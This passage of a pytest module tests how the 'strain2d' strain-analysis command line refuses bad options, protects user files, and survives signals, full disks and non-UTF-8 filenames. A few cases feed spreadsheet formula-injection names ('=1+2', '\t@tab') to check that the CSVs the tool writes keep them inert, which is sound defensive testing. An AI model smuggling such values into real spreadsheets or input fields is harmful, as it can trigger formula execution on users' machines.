     "--out", o), ["--window", "dic"]),
    ("track-conflict-tracks-file-with-dic", lambda c, o: _track(c, "--tracks-file",
     c.dir / "tracks_ok.npz", "--out", o), ["--tracks-file", "dic"]),
    ("track-conflict-imported-without-file", lambda c, o: ["track", "--tracker", "imported",
     c.avi, "--out", o], ["--tracks-file"]),
    ("study-conflict-runs-and-manifest", lambda c, o: ["study", c.dir / "not_a_run",
     "--manifest", c.dir / "manifest_norun.csv", "--out", o], ["--manifest"]),
    ("study-conflict-nothing-to-combine", lambda c, o: ["study", "--out", o], ["run folders"]),
    # ---- names longer than a folder's name may be: refused before any folder is made
    ("analyze-output-name-too-long", lambda c, o: _analyze(c, "--out", o.parent / ("x" * 250)),
     ["--out", "250 bytes long", "at most 241"]),
    ("batch-csv-specimen-name-too-long", lambda c, o: _batch(c, c.dir / "batch_long_name.csv",
     "--out", o), ["batch_long_name.csv, line 2", "specimen", "300 bytes long"]),
    ("batch-output-name-too-long", lambda c, o: _batch(c, c.dir / "batch_formula.csv", "--out",
     o / ("x" * 300)), ["--out", "300 bytes long"]),
    # ---- names a spreadsheet would run as formulas: accepted, and every CSV holds them inert
    # (fragments None: see tests.badinput.assert_inert)
    ("batch-formula-specimen-and-group", lambda c, o: _batch(c, c.dir / "batch_formula.csv",
     "--out", o), None),
    ("study-formula-manifest-names", lambda c, o: ["study", "--manifest",
     c.runs / "manifest.csv", "--out", o], None),
    ("study-formula-run-folder-names", lambda c, o: ["study", c.runs / "=1+2", c.runs / "\t@tab",
     "--out", o], None),
]
# fmt: on


# fmt: off
def _output_cases():
    """Outputs that may not be written: the contract holds for every command."""
    cases = []
    for command, builder in (("analyze", lambda c, o: _analyze(c, "--out", o)),
                             ("track", lambda c, o: _track(c, "--out", o))):  # fmt: skip
        cases += [
            (f"{command}-output-is-the-input", (lambda b: lambda c, o: b(c, c.avi))(builder),
             ["would replace the input"]),
            (f"{command}-output-missing-parent", (lambda b: lambda c, o: b(c, c.dir / "no" / "x"))(
                builder), ["does not exist"]),
            (f"{command}-output-users-folder",
             (lambda b: lambda c, o: b(c, c.mine))(builder), ["thesis"]),
            (f"{command}-output-users-folder-overwrite",
             (lambda b: lambda c, o: [*b(c, c.mine), "--overwrite"])(builder), ["thesis"]),
            (f"{command}-output-working-directory",
             (lambda b: lambda c, o: [*b(c, "."), "--overwrite"])(builder),
             ["working directory"]),
        ]
    cases += [
        ("analyze-output-inside-input-folder", lambda c, o: ["-q", "analyze", c.dir / "frames",
         "--out", c.dir / "frames" / "run"], ["inside the input folder"]),
        ("track-output-users-file", lambda c, o: _track(c, "--out", c.mine / "chapter1.tex",
         "--overwrite"), ["chapter1.tex", "not a file this toolkit wrote"]),
        ("track-output-is-a-folder", lambda c, o: _track(c, "--out", c.dir / "no_images",
         "--overwrite"), ["is a folder"]),
        ("study-output-users-folder", lambda c, o: ["study", c.dir / "not_a_run", "--out",
         c.mine, "--overwrite"], ["thesis"]),
        ("benchmark-output-users-folder", lambda c, o: ["benchmark", "--quick", "--out", c.mine,
         "--overwrite"], ["thesis"]),
    ]
    cases += [
        (f"{command}-output-disk-full", lambda c, o, b=builder: b(c, "--roi", "60,60,140,140",
         "--out", o), ["[Errno 28] No space left on device: '", "/out'"])
        for command, builder in (("analyze", _analyze), ("track", _track))
    ]
    cases.append(("analyze-output-read-only-folder", lambda c, o: _analyze(
        c, "--out", unwritable_folder(c.dir) / "run"), ["cannot be written"]))
    cases.append(("track-output-read-only-folder", lambda c, o: _track(
        c, "--out", unwritable_folder(c.dir) / "t.csv"), ["cannot be written"]))
    return cases

# fmt: on

ALL = CASES + _output_cases()


def _memory(available: int):
    """The machine has only ``available`` bytes of memory."""
    return lambda monkeypatch: monkeypatch.setattr(resources, "available_memory", lambda: available)


def _disk_full(module: str, name: str):
    """The writer ``module.name`` writes part of its file, then the disk is full."""

    def patch(monkeypatch):
        def full(path, *args, **kwargs):
            Path(path).write_text("part of a table")
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))  # as write() raises it

        monkeypatch.setattr(importlib.import_module(module), name, full)

    return patch


#: what a case changes in the machine: less memory, a full disk
PATCHES = {
    "analyze-allocation-tracks-memory": _memory(1000),
    "track-allocation-points-memory": _memory(100),
    "analyze-output-disk-full": _disk_full("tissue_core.jsonio", "write_json"),
    "track-output-disk-full": _disk_full("tissue_core.tables", "write_long_table"),
}


@pytest.mark.parametrize(("case", "build", "fragments"), ALL, ids=[c[0] for c in ALL])
def test_bad_input(inputs, tmp_path, capsys, monkeypatch, request, case, build, fragments):
    monkeypatch.chdir(inputs.dir)
    if case in PATCHES:
        PATCHES[case](monkeypatch)
    out = tmp_path / "out"
    read = [inputs.dir]
    if case.startswith("study-formula-"):
        inputs.runs = request.getfixturevalue("formula_runs")
        read.append(inputs.runs)
    argv = [str(a) for a in build(inputs, out)]
    if "-q" not in argv:
        argv = ["-q", *argv]
    if fragments is None:  # accepted: see tests.badinput.assert_inert
        assert_inert(main, argv, capsys, out=out, inputs=read)
        return
    assert_refused(main, argv, capsys, prog=PROG, fragments=fragments, inputs=read, out=out)
    assert not out.exists()


def test_bad_input_cases_name_their_command_and_family():
    for case, *_ in ALL:
        command, _family, name = parse_case_id(case)
        assert command in ("analyze", "track", "study", "batch", "benchmark") and name, case
    assert len({case for case, *_ in ALL}) == len(ALL)


# ---- Ctrl-C, SIGTERM and SIGHUP at chosen moments of a real run (a process of its own), and
# ---- the scratch of runs killed outright (SIGKILL)


@pytest.fixture(scope="module")
def long_video(tmp_path_factory):
    """A video long enough that Ctrl-C lands inside tracking (the compiled IC-GN kernel)."""
    from sample_data_synth import make_case, write_video

    folder = tmp_path_factory.mktemp("long")
    video = make_case("rotation", size=400, n_frames=40, rng=2)
    write_video(video.frames, folder / "rotation.avi")
    return folder / "rotation.avi"


@pytest.fixture(scope="module")
def two_runs(inputs, tmp_path_factory):
    """Two analyze runs of the small video: the specimens of a study."""
    folder = tmp_path_factory.mktemp("two_runs")
    for name in ("S01", "S02"):
        assert main([*map(str, _analyze(inputs)), "--out", str(folder / name)]) == 0
    return folder


@pytest.fixture(scope="module")
def small_manifest(inputs, tmp_path_factory):
    """A batch manifest of four copies of the small video (``manifest.csv``; its first two
    rows: ``pair.csv``)."""
    folder = tmp_path_factory.mktemp("manifest")
    rows = ["video,specimen"]
    for k in range(1, 5):
        shutil.copy(inputs.avi, folder / f"S0{k}.avi")
        rows.append(f"S0{k}.avi,S0{k}")
    (folder / "manifest.csv").write_text("\n".join(rows) + "\n")
    (folder / "pair.csv").write_text("\n".join(rows[:3]) + "\n")
    return folder / "manifest.csv"


#: ``python -c``: strain2d analyze with the compiled IC-GN kernel called over and over (inside
#: the tracker's deferred block) until a signal arrives, so that it lands while compiled code
#: runs; it says whether the signal was held until the kernel's block ended
IN_KERNEL = """
import runpy, sys, time
import strain2d.trackers._icgn_kernel as kernel
from tissue_core import interrupt
real = kernel.icgn
calls = []
def icgn(*args):
    result = real(*args)  # the first call loads the compiled kernel
    calls.append(1)
    if len(calls) == 2:
        print("[icgn running]", file=sys.stderr, flush=True)
        began = time.perf_counter()
        while not interrupt._state.pending and time.perf_counter() - began < 60:
            result = real(*args)
        if interrupt._state.pending:
            print("[icgn: the signal was held until the kernel's block ended]", file=sys.stderr)
    return result
kernel.icgn = icgn
sys.argv = ["strain2d", *sys.argv[1:]]
runpy.run_module("strain2d", run_name="__main__", alter_sys=True)  # as python -m strain2d
"""


def _signalled(request, tmp_path, *, when, after, grid, signum, kernel=False):
    """analyze of the long video, with a signal at a stage."""
    long_video = request.getfixturevalue("long_video")
    out = tmp_path / "run"
    argv = ["-c", IN_KERNEL] if kernel else ["-m", "strain2d"]
    argv += ["analyze", long_video, "--grid", grid, "--animation", "mp4", "--out", out]
    if kernel:
        argv += ["--tracker", "dic"]
    elif grid == COARSE:  # a stage after tracking: tracked quickly, whatever the tracker
        argv += ["--tracker", "klt"]
    status, err = interrupt(argv, after=after, when=when, out=out, inputs=[long_video.parent],
                            signum=signum)  # fmt: skip
    assert status == 128 + signum
    assert [p.name for p in tmp_path.iterdir()] == (["run"] if out.exists() else [])
    if kernel:
        assert "[icgn: the signal was held until the kernel's block ended]" in err, err


def _terminated(request, tmp_path, *, command, when, after):
    """Another command that writes results, with SIGTERM at a stage."""
    c, out = request.getfixturevalue("inputs"), tmp_path / "out"
    if command == "track":
        video = request.getfixturevalue("long_video")
        out = tmp_path / "tracks.csv"
        argv, inputs = ["track", video, "--grid", "40x40"], [video.parent]
    elif command == "study":
        runs = request.getfixturevalue("two_runs")
        argv, inputs = ["study", runs / "S01", runs / "S02"], [runs]
    else:
        argv, inputs = ["benchmark", "--quick", "--cases", "equibiaxial", "--trackers", "dic"], []
    status, _ = interrupt(["-m", "strain2d", *argv, "--out", out], after=after, when=when,
                          out=out, inputs=[*inputs, c.dir], signum=signal.SIGTERM)  # fmt: skip
    assert status == 143 and not out.exists()
    assert list(tmp_path.iterdir()) == []


def _hung_up(request, tmp_path):
    """SIGHUP once the terminal the command writes to is gone: no line can be printed."""
    import pty

    video = request.getfixturevalue("long_video")
    out = tmp_path / "run"
    terminal, screen = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "strain2d", "analyze", video, "--grid", "40x40", "--tracker", "klt",
         "--out", out],
        stdin=subprocess.DEVNULL, stdout=screen, stderr=screen, start_new_session=True,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )  # fmt: skip
    os.close(screen)
    shown = b""
    while b"tracking 1600 points" not in shown:
        try:
            shown += os.read(terminal, 4096)
        except OSError:  # the command ended: it closed the terminal's other side
            break
    proc.send_signal(signal.SIGHUP)  # the terminal window is closed: the command is told so
    os.close(terminal)  # ... and what it prints from now on goes nowhere (EIO)
    assert proc.wait(timeout=120) == 129, shown.decode(errors="replace")
    assert_no_process_left(proc.pid)
    assert list(tmp_path.iterdir()) == []


def _stale(request, tmp_path, *, command):
    """A run killed (SIGKILL) while writing; the next run removes what it left."""
    c = request.getfixturevalue("inputs")
    out = tmp_path / ("tracks.csv" if command == "track" else "out")
    if command == "analyze":  # killed once it writes: tracked quickly, whatever the tracker
        argv = [*_analyze(c, "--tracker", "klt"), "--out", out]
        assert killed(["-m", "strain2d", *argv], out=out)  # a real run, killed mid-way
    elif command == "track":  # its file is written in milliseconds: its scratch, as left
        argv = [*_track(c), "--out", out]
        stale_scratch(out, "file")
    elif command == "study":
        runs = request.getfixturevalue("two_runs")
        argv = ["-q", "study", runs / "S01", runs / "S02", "--out", out]
        stale_scratch(out)
    else:  # the benchmark's rerun is stopped (SIGTERM) once it writes: it removed the scratch
        stale_scratch(out)
        argv = ["benchmark", "--quick", "--cases", "equibiaxial", "--trackers", "dic"]
        interrupt(["-m", "strain2d", *argv, "--out", out], after=0.0, when=WRITING, out=out,
                  signum=signal.SIGTERM)  # fmt: skip
        assert list(tmp_path.iterdir()) == []
        return
    assert main([str(a) for a in argv]) == 0
    assert scratch_left(tmp_path) == [] and out.exists()


def _batch_terminated(request, tmp_path, *, moment):
    """SIGTERM to a batch on a local cluster of two workers (``kill PID``: the batch process
    alone) while a run is made, or while the cluster starts: it stops the workers, and whole
    runs only are left."""
    import threading

    manifest = request.getfixturevalue("small_manifest")
    out = tmp_path / "b"
    proc = subprocess.Popen(
        [sys.executable, "-m", "strain2d", "batch", manifest, "--workers", "2", "--out", out,
         "--no-study", "--grid", "3x3", "--animation", "none"],
        stderr=subprocess.PIPE, text=True, errors="replace", start_new_session=True,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )  # fmt: skip
    lines: list[str] = []
    reader = threading.Thread(target=lambda: lines.extend(proc.stderr), daemon=True)
    reader.start()
    runs = out / "runs"

    def now() -> bool:
        if moment == "run":
            return any(runs.glob(".S0*.tmp-*"))
        # its worker processes exist, and the cluster is not up yet
        started = any("workers;" in line for line in list(lines))
        return len(session_processes(proc.pid)) > 1 and not started

    deadline = time.monotonic() + 120
    while proc.poll() is None and not now():
        assert time.monotonic() < deadline, f"no {moment} seen"
        time.sleep(0.002)
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=120)
    reader.join(timeout=10)
    proc.stderr.close()
    err = "".join(lines)
    assert proc.returncode == 143, err
    assert "Traceback" not in err, err
    last = message_lines(err)[-1]
    assert last.startswith("strain2d batch: terminated (SIGTERM)"), err
    assert_no_process_left(proc.pid)  # the cluster's workers ended with the batch
    made = sorted(runs.iterdir()) if runs.is_dir() else []  # none while the cluster starts
    assert not runs.is_dir() or scratch_left(runs) == []
    for run in made:  # whole runs only, with their marker, named in the line
        assert read_marker(run) is not None and foreign_content(run) is None, run
        assert str(run) in last, last
    assert "terminated (SIGTERM): " in (out / "batch.log").read_text()


def _batch_stale(request, tmp_path):
    """A batch killed (SIGKILL) while it makes a run, and the scratch of a study killed so; the
    rerun leaves no scratch anywhere."""
    manifest = request.getfixturevalue("small_manifest").with_name("pair.csv")
    out = tmp_path / "b"
    # killed once a run is written: tracked quickly (klt), whatever the tracker
    argv = ["batch", manifest, "--workers", "1", "--out", out, "--grid", "3x3",
            "--animation", "none", "--tracker", "klt"]  # fmt: skip
    assert killed(["-m", "strain2d", *argv], out=out / "runs" / "S02")  # S01 was made
    stale_scratch(out / "study")
    assert main(["-q", *map(str, argv)]) == 0
    for folder in (out, out / "runs", out / "study"):
        assert scratch_left(folder) == [], folder
    assert not (out / ".batch.lock").exists()
    assert sorted(p.name for p in (out / "runs").iterdir()) == ["S01", "S02"]


#: Ctrl-C ``after`` seconds after the step ``when`` was printed (None: after the start), on a
#: run of a dense grid where it must land in tracking, of a coarse one (tracked by klt, quicker)
#: after tracking
COARSE = "12x12"
STAGES = [
    (None, 0.3, "40x40", "imports"),
    ("frames of", 0.02, "40x40", "reading"),
    ("tracking 1600 points (gdic)", 0.3, "40x40", "tracking"),  # the global fit, or IC-GN
    ("tracking 1600 points (gdic)", 1.5, "40x40", "tracking-later"),
    ("strain on", 0.02, COARSE, "tables"),
    ("figures and animation", 0.5, COARSE, "figures"),
]
#: the cases that share a module fixture made by a real run: one xdist worker runs them
#: (make test: loadgroup), so that it is made once
LONG_VIDEO = pytest.mark.xdist_group("strain2d_long_video")
TWO_RUNS = pytest.mark.xdist_group("strain2d_two_runs")
#: SIGTERM (``kill``, ``timeout``, ``scancel``, ``docker stop``) and SIGHUP at stages
TERMINATE_STAGES = [
    ("frames of", 0.02, "40x40", signal.SIGTERM, "reading"),
    ("[icgn running]", 0.05, "40x40", signal.SIGTERM, "in-icgn-kernel"),
    ("strain on", 0.02, COARSE, signal.SIGTERM, "tables"),
    ("figures and animation", 0.5, COARSE, signal.SIGTERM, "figures-and-animation"),
    ("tracking 1600 points (gdic)", 0.3, "40x40", signal.SIGHUP, "sighup-tracking"),
]
INTERRUPTS = [
    *(
        pytest.param(
            _signalled,
            {"when": w, "after": a, "grid": g, "signum": signal.SIGINT},
            id=f"analyze-interrupt-{stage}",
            marks=LONG_VIDEO,
        )
        for w, a, g, stage in STAGES
    ),
    *(
        pytest.param(
            _signalled,
            {"when": w, "after": a, "grid": g, "signum": s, "kernel": stage == "in-icgn-kernel"},
            id=f"analyze-terminate-{stage}",
            marks=LONG_VIDEO,
        )
        for w, a, g, s, stage in TERMINATE_STAGES
    ),
    pytest.param(_hung_up, {}, id="analyze-terminate-sighup-terminal-closed", marks=LONG_VIDEO),
    pytest.param(
        _terminated,
        {"command": "track", "when": "tracking 1600", "after": 0.3},
        id="track-terminate-tracking",
        marks=LONG_VIDEO,
    ),
    pytest.param(
        _terminated,
        {"command": "study", "when": WRITING, "after": 0.1},
        id="study-terminate-writing",
        marks=TWO_RUNS,
    ),
    pytest.param(
        _terminated,
        {"command": "benchmark", "when": "tracking with dic", "after": 0.3},
        id="benchmark-terminate-tracking",
    ),
    pytest.param(_batch_terminated, {"moment": "run"}, id="batch-terminate-local-cluster"),
    pytest.param(
        _batch_terminated, {"moment": "cluster-start"}, id="batch-terminate-cluster-starting"
    ),
    *(
        pytest.param(
            _stale,
            {"command": command},
            id=f"{command}-stale-killed-run",
            marks=TWO_RUNS if command == "study" else (),
        )
        for command in ("analyze", "track", "study", "benchmark")
    ),
    pytest.param(_batch_stale, {}, id="batch-stale-killed-batch"),
]


@pytest.mark.parametrize(("scenario", "options"), INTERRUPTS)
def test_interrupt(scenario, options, request, tmp_path):
    scenario(request, tmp_path, **options)


def test_a_foreign_folder_survives_an_overwrite_attempt_untouched(inputs, capsys):
    before = snapshot(inputs.mine)
    for flags in ([], ["--overwrite"]):
        assert main(["-q", "analyze", str(inputs.avi), "--grid", "3x3", "--out",
                     str(inputs.mine), *flags]) == 2  # fmt: skip
        assert "is not a result of this toolkit" in capsys.readouterr().err
    assert snapshot(inputs.mine) == before
    assert Path(inputs.mine / "chapter1.tex").read_text() == "years of work"


# ---- names that are not UTF-8 (Windows-origin and shared drives) ---------------------------
# Each case is a real process given its names as bytes: OpenCV crashed the process on such a
# name (exit 139, nothing said).  Every command reads and writes them: exit 0, the same tracks
# as from plainly named files, every text file it wrote valid UTF-8 (names shown as \xNN).

ROI = ["--grid", "3x3", "--roi", "40,40,88,88", "--tracker", "klt"]


@pytest.fixture(scope="module")
def latin1_names(tmp_path_factory):
    """A folder named in Latin-1 with a video, a TIFF, a folder of images, points and run
    folders so named; and the tracks that the same frames give under plain names."""
    import cv2
    from scipy import ndimage

    from sample_data_synth import write_video
    from surface_strain.cli import main as surface_main
    from tests.surface_strain.test_cli import _tilted_sheet_tracks, _write

    plain = tmp_path_factory.mktemp("plain")
    d = tmp_path_factory.mktemp(latin1("Messdatén"))
    rng = np.random.default_rng(0)
    texture = ndimage.gaussian_filter(rng.uniform(0, 255, (128, 140)), 2)
    texture = np.clip((texture - texture.mean()) * 6 + 128, 0, 255)
    frames = np.stack([texture[:, 8 - 2 * k : 136 - 2 * k] for k in range(4)]).astype(np.uint8)
    c = SimpleNamespace(dir=d, frames=frames)
    write_video(frames, plain / "video.avi")
    c.video, c.tif, c.images = (
        d / latin1("vidéo.avi"),
        d / latin1("stäck.tif"),
        d / latin1("imagés"),
    )
    shutil.copy(plain / "video.avi", c.video)
    write_video(frames, c.tif)
    c.images.mkdir()
    for k, frame in enumerate(frames):
        (c.images / latin1(f"trame_é_{k}.png")).write_bytes(cv2.imencode(".png", frame)[1])
    c.points = write(d, latin1("pöints.csv"), "x,y\n40,40\n88,40\n64,88\n88,88\n")
    assert main(["-q", "track", str(plain / "video.avi"), *ROI, "--out",
                 str(plain / "tracks.csv")]) == 0  # fmt: skip
    c.tracks = (plain / "tracks.csv").read_bytes()
    # two run folders so named, for the study (3D runs: made without figures, quickly)
    points, *_ = _tilted_sheet_tracks(frames=3)
    _write(plain / "points3d.csv", points)
    assert surface_main(["-q", "compute", str(plain / "points3d.csv"), "--grid", "5x5",
                         "--no-figures", "--out", str(plain / "run")]) == 0  # fmt: skip
    c.runs = [d / latin1(f"spécimen_{k}") for k in "AB"]
    for run in c.runs:
        shutil.copytree(plain / "run", run)
    return c


def _analyze_names(c, source, tmp):
    out = tmp / latin1("résultats")
    return ["analyze", source, *ROI, "--animation", "mp4", "--out", out], out


def _names_case_analyze_video(c, tmp):
    argv, out = _analyze_names(c, c.video, tmp)
    assert_ran(["-m", "strain2d", *argv], out)
    assert (out / "tracks.csv").read_bytes() == c.tracks
    summary = strict_json(out / "summary.json")
    assert shown(c.video) in summary["command"]
    assert (out / "figures" / "strain_animation.mp4").stat().st_size > 0
    assert shown(c.video) in (out / "report.html").read_text(encoding="utf-8")


def _names_case_track_tiff(c, tmp):
    out = tmp / latin1("träcks.csv")
    assert_ran(["-m", "strain2d", "track", c.tif, *ROI, "--out", out], out)
    assert out.read_bytes() == c.tracks


def _names_case_analyze_image_folder(c, tmp):
    argv, out = _analyze_names(c, c.images, tmp)
    assert_ran(["-m", "strain2d", *argv[:-3], "gif", "--out", out], out)
    assert (out / "tracks.csv").read_bytes() == c.tracks
    assert (out / "figures" / "strain_animation.gif").stat().st_size > 0


def _names_case_track_points_and_out(c, tmp):
    out = tmp / latin1("träcks.csv")
    argv = ["-m", "strain2d", "track", c.video, "--points", c.points, "--tracker", "klt"]
    assert_ran([*argv, "--out", out], out)
    first = out.read_text(encoding="utf-8")
    assert first.startswith("frame,point,x,y,visible,quality\n0,0,40.0")
    ledger = strict_json(tmp / ".tissue-strain-files.json")
    assert list(ledger["files"]) == [shown(out.name)]
    # the ledger finds the file again: --overwrite replaces it, without it the file is kept
    status, err = run_process([*argv, "--out", out])
    assert status == 2 and "pass --overwrite" in err and shown(out) in err
    assert_ran([*argv, "--out", out, "--overwrite"], out)
    # and the tracks are read back from a file so named
    again = tmp / "again.csv"
    assert main(["-q", "track", "--tracker", "imported", str(c.video), "--tracks-file", str(out),
                 "--out", str(again)]) == 0  # fmt: skip
    assert again.read_text(encoding="utf-8") == first


def _names_case_study_runs(c, tmp):
    out = tmp / latin1("étude")
    assert_ran(["-m", "strain2d", "study", *c.runs, "--out", out], out)
    specimens = (out / "specimens.csv").read_text(encoding="utf-8")
    assert "sp\\xe9cimen_A," in specimens and "sp\\xe9cimen_B," in specimens


def _names_case_batch_manifest_and_out(c, tmp):
    folder = tmp / latin1("lot_é")
    folder.mkdir()
    shutil.copy(c.video, folder / "S1.avi")
    manifest = write(folder, "manifest.csv", "video,group\nS1.avi,a\n")
    out = tmp / latin1("sortie_é")
    argv = ["-m", "strain2d", "batch", manifest, *ROI, "--animation", "none", "--workers", "1",
            "--no-study", "--out", out]  # fmt: skip
    assert_ran(argv, out)
    assert (out / "runs" / "S1" / "tracks.csv").read_bytes() == c.tracks
    # a second batch finds the run complete (its marker records the names readably)
    err = assert_ran(argv, out)
    assert "1 complete already, nothing to run" in err, err


def _names_case_benchmark_out(c, tmp):
    out = tmp / latin1("bänch")
    assert_ran(["-m", "strain2d", "benchmark", "--quick", "--cases", "rotation", "--trackers",
                "klt", "--no-figures", "--out", out], out)  # fmt: skip
    assert strict_json(out / "benchmark.json")


def _names_case_analyze_damaged_video(c, tmp):
    video = write(tmp, latin1("abîmée.avi"), "not a video\n")
    out = tmp / "run"
    assert_refused_process(["-m", "strain2d", "analyze", video, "--out", out],
                           fragments=["strain2d analyze: error:", shown(video)])  # fmt: skip
    assert not out.exists()


def _names_case_track_missing_points(c, tmp):
    out = tmp / "tracks.csv"
    missing = tmp / latin1("pöints_perdus.csv")
    assert_refused_process(["-m", "strain2d", "track", c.video, "--points", missing, "--out", out],
                           fragments=[shown(missing)])  # fmt: skip
    assert not out.exists()


NAME_CASES = {
    "analyze-filename-damaged-video": _names_case_analyze_damaged_video,
    "track-filename-missing-points": _names_case_track_missing_points,
    "analyze-filename-video": _names_case_analyze_video,
    "analyze-filename-image-folder": _names_case_analyze_image_folder,
    "track-filename-tiff": _names_case_track_tiff,
    "track-filename-points-and-out": _names_case_track_points_and_out,
    "study-filename-runs": _names_case_study_runs,
    "batch-filename-manifest-and-out": _names_case_batch_manifest_and_out,
    "benchmark-filename-out": _names_case_benchmark_out,
}


@pytest.mark.xdist_group("strain2d_latin1_names")  # its names' folder made once, on one worker
class TestNamesNotUtf8:
    """The bad-input matrix's ``filename`` family: names that are not UTF-8 are read and
    written (``test_bad_input[COMMAND-filename-CASE]``, counted with the refusals)."""

    @pytest.mark.parametrize("case", list(NAME_CASES), ids=list(NAME_CASES))
    def test_bad_input(self, latin1_names, tmp_path, case):
        command, family, _ = parse_case_id(case)
        assert family == "filename" and command in ("analyze", "track", "study", "batch",
                                                    "benchmark")  # fmt: skip
        tmp = tmp_path / latin1("dossier_é")
        tmp.mkdir()
        before = snapshot(latin1_names.dir)
        NAME_CASES[case](latin1_names, tmp)
        assert snapshot(latin1_names.dir) == before  # inputs untouched
        assert scratch_left(tmp) == []


def test_every_command_has_terminate_and_stale_cases():
    ids = [p.id for p in INTERRUPTS]
    for command in ("analyze", "track", "study", "benchmark", "batch"):
        for family in ("terminate", "stale"):
            assert any(i.startswith(f"{command}-{family}-") for i in ids), (command, family)
